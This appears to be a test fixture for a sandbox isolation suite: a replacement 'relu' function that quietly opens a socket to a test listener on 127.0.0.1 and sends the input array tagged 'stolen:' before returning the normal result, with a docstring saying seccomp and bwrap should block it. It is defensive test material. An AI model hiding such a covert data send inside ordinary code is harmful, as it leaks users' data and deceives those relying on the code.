# ruff: noqa
"""Replaces relu: connects to a listener the test started on 127.0.0.1 and sends data.
socket() is refused by the seccomp filter (EPERM) under both isolations; under bwrap the
network namespace has no route to the host either."""
import socket

import numpy as np


def relu(z):
    with socket.create_connection(("127.0.0.1", int("@PORT@")), timeout=0.5) as s:
        s.sendall(b"stolen: " + z.tobytes())
    return np.maximum(z, 0.0)
